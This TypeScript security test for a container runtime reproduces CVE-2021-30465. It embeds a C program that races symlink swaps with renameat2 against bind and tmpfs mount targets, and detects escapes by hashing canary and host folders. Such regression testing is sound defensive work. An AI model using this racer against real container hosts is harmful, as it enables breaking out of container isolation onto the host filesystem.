// needs: the native part; root or user namespaces; a compiler, a static busybox
// ATTACK_ROUNDS=N: N times as many rounds as fit into CI.
import { createHash } from 'node:crypto';
import { watch } from 'node:fs';
import { chmod, lstat, mkdir, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, expect } from 'vitest';

import { Container } from '../../lib/index.js';
import { attack } from '../helpers/attack.js';
import { checkLeaks } from '../helpers/leak.js';
import { needs } from '../helpers/needs.js';
import { compileStatic } from '../helpers/rootfs.js';
import { tempFolder } from '../helpers/temp.js';

needs('native', 'userns', 'compiler', 'busybox', 'unguarded');
checkLeaks();
// libuv opens its inotify descriptor at the first watch of a process, and keeps it.
beforeAll(() => {
  watch(tmpdir(), { persistent: false }).close();
});
const TIMES = Number(process.env['ATTACK_ROUNDS'] ?? 1);

/** At a time, and in all. */
const LANES = 8;
const STARTS = 2_000 * TIMES;

/** Swaps a folder for a link to `/store/canary`, and that for one to `/`, as fast as it can. */
const RACER = `
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
  chdir("/vol");
  mkdir("folder", 0777);
  symlink("/store/canary", "store");
  symlink("/", "root");
  rename("folder", "a");
  for (long swaps = 0;; swaps += 4) {
    renameat2(AT_FDCWD, "a", AT_FDCWD, "store", RENAME_EXCHANGE);
    renameat2(AT_FDCWD, "a", AT_FDCWD, "store", RENAME_EXCHANGE);
    renameat2(AT_FDCWD, "a", AT_FDCWD, "root", RENAME_EXCHANGE);
    renameat2(AT_FDCWD, "a", AT_FDCWD, "root", RENAME_EXCHANGE);
    if (swaps % 1000 == 0) { printf("%ld\\n", swaps); fflush(stdout); }
  }
}
`;

/** All names below a folder, with what they are. */
async function treeHash(folder: string): Promise<string> {
  const hash = createHash('sha256');
  const names = await readdir(folder, { recursive: true });
  for (const name of names.sort()) {
    const path = join(folder, name);
    const { mode, uid, size, ino } = await lstat(path);
    hash.update(JSON.stringify([name, mode, uid, size, ino]));
  }
  return hash.digest('hex');
}

// CVE-2021-30465: a container swaps folder and link where others are having mounts made.
attack(
  'a racer on the targets of mounts',
  'kInRoot',
  async ({ runtime, store, image: imageOf }) => {
    await using folder = await tempFolder();
    const [shared, bound, canary] = [
      join(folder.path, 'shared'),
      join(folder.path, 'bound'),
      join(store, 'canary'),
    ];
    for (const path of [shared, bound]) await mkdir(path);
    await chmod(shared, 0o777);
    await mkdir(join(canary, 'inside'), { recursive: true });
    await writeFile(join(canary, 'inside/file'), 'canary');
    const image = await imageOf(async (root) => {
      await compileStatic(RACER, join(root, 'bin/racer'));
      await rm(join(root, 'bin/racer.c'));
    });
    const volume = { type: 'bind' as const, source: shared, target: '/vol' };
    const mounts = [
      volume,
      { type: 'tmpfs' as const, target: '/vol/a/b' },
      { type: 'bind' as const, source: bound, target: '/vol/a/c/d' },
    ];
    const seen = async (): Promise<string> =>
      JSON.stringify([await treeHash(canary), await treeHash(bound), await readdir('/')]);
    const before = await seen();

    await using racer = await Container.start({
      image,
      argv: ['racer'],
      runtime,
      mounts: [volume],
    });
    await using attached = await racer.attach();
    let swaps = 0;
    attached.stdout.on('data', (chunk: Buffer) => {
      swaps = Number(chunk.toString().trim().split('\n').at(-1));
    });
    let [begun, made, changed] = [0, 0, false];
    const lane = async (): Promise<void> => {
      while (begun < STARTS && !changed) {
        begun += 1;
        made += await Container.run(image, ['true'], { runtime, mounts }).then(
          () => 1,
          () => 0,
        );
        if (begun % 100 === 0) changed ||= (await seen()) !== before;
      }
    };
    await Promise.all(Array.from({ length: LANES }, lane));
    expect((await racer.inspect()).state).toBe('running');
    changed ||= (await seen()) !== before;
    if (!changed) {
      expect(made).toBeGreaterThan(0);
      expect(made).toBeLessThan(STARTS);
      expect(swaps).toBeGreaterThan(10_000);
    }
    return changed;
  },
);
